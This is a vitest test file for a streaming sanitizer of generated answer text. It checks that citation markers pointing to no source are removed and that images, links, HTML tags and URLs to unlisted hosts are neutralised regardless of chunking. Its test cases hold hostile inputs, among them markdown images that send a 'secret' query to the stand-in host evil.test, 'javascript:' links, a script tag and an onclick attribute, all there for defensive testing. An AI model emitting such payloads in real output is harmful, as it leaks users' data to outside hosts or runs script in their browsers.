import { describe, expect, test } from 'vitest'
import { openSafeText } from '@/lib/answer/safe-text'

const SOURCES = ['https://one.test/a', 'https://two.test/b']
const clean = (text: string, citations = true, pieces: string[] = [text]) => {
  const safe = openSafeText({ sources: SOURCES, citations })
  return pieces.map(safe.push).join('') + safe.flush()
}

describe('markers', () => {
  test('keep their place when they point to a source, and vanish when they do not', () => {
    expect(clean('A [1]. B [3]. C [2, 9]. D[1][2].')).toBe('A [1]. B. C [2]. D[1][2].')
  })
  test('all vanish without citations', () => {
    expect(clean('A [1]. B [2].', false)).toBe('A. B.')
  })
  test('code is left alone', () => {
    expect(clean('Use `list[9]` and\n```\nrow[7] = x[0]\n```\nend [9].')).toBe(
      'Use `list[9]` and\n```\nrow[7] = x[0]\n```\nend.',
    )
  })
})

describe('images, links and tags', () => {
  const cases: [string, string][] = [
    ['![pixel](https://evil.test/?q=secret)', 'pixel'],
    ['![pixel][ref]\n[ref]: https://evil.test/x', 'pixel'],
    ['[a](https://one.test/page)', '[a](https://one.test/page)'],
    ['[a](https://evil.test/page)', 'a'],
    ['[a](javascript:alert(1))', 'a'],
    ['<img src="https://evil.test/x.png">', ''],
    ['<script>alert(1)</script>', 'alert(1)'],
    ['<https://evil.test/x>', '`https://evil.test/x`'],
    ['see https://evil.test/x now', 'see `https://evil.test/x` now'],
    ['see https://two.test/x now', 'see https://two.test/x now'],
    ['1 < 2 and 3 > 2', '1 < 2 and 3 > 2'],
    ['- [ ] a task', '- [ ] a task'],
    ['[![x](https://evil.test/i)](https://evil.test/o)', '\\[x](`https://evil.test/o`)'],
    ['![a\\]b](https://evil.test/x)', '!\\[a\\]b](`https://evil.test/x`)'],
    ['\\[ x^2 \\] and \\(y\\)', '\\[ x^2 \\] and \\(y\\)'],
    ['<track src="https://evil.test/t"><p onclick=x()>a</p>', 'a</p>'],
  ]
  test.each(cases)('%s', (text, expected) => {
    expect(clean(text).trim()).toBe(expected)
  })
})

test('what comes out does not depend on how the text is cut', () => {
  const text =
    'First [1], then ![x](https://evil.test/?a=b) and [link](https://one.test/y) or [bad](https://evil.test/z).\n\n```js\nconst a = b[1]\n```\nSee https://evil.test/q and `c[2]` <img src=x> done [2][5] [1, 2].\n- [x] item \\[9] [[a](https://evil.test/z)](b)\n'
  const whole = clean(text)
  expect(whole).not.toMatch(/evil\.test\/(?:\?|z)/)
  let seed = 7
  const random = () => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648
    return seed / 2_147_483_648
  }
  for (let round = 0; round < 500; round++) {
    const pieces: string[] = []
    for (let at = 0; at < text.length; ) {
      const size = 1 + Math.floor(random() * (round % 2 ? 3 : 20))
      pieces.push(text.slice(at, at + size))
      at += size
    }
    expect(clean(text, true, pieces), JSON.stringify(pieces)).toBe(whole)
  }
})

test('text without constructs is passed on at once', () => {
  const safe = openSafeText({ sources: SOURCES, citations: true })
  expect(safe.push('Plain words come')).toBe('Plain words come')
})
